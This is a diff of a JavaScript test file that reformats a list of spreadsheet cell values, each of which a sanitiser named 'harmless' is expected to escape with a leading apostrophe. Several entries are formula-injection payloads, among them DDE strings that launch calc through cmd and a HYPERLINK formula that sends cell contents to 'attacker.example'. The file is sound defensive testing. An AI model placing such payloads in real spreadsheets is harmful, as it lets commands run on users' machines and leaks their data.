@@ -20,11 +20,26 @@ test.each(["", "In bulk", "10 MT + 5 KG", "12/11/2025", "TV/EXP/042", "1,2,3", "
 );
 
 test.each([
-  ...["=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-", "+919876543210"],
+  "=1+1",
+  "+1",
+  "-1+cmd|' /C calc'!A0",
+  "@SUM(A1)",
+  "\t=1",
+  "\r=1",
+  "\n=1",
+  "-",
+  "+919876543210",
   // Arithmetic in the clothes of a figure with its unit.
-  ...["-1 *cmd|' /C calc'!A0", '-1 -HYPERLINK("https://attacker.example?"&A1)', "-1 &A1", "-5 KG(A1)", "-5 A1"],
+  "-1 *cmd|' /C calc'!A0",
+  '-1 -HYPERLINK("https://attacker.example?"&A1)',
+  "-1 &A1",
+  "-5 KG(A1)",
+  "-5 A1",
   // Spreadsheets with Chinese or Japanese settings read the full width, too.
-  ...["＝1", "＋1", "－1", "＠SUM(A1)"],
+  "＝1",
+  "＋1",
+  "－1",
+  "＠SUM(A1)",
 ])("%j is made harmless", (cell) => {
   expect(harmless(cell)).toBe(`'${cell}`);
 });
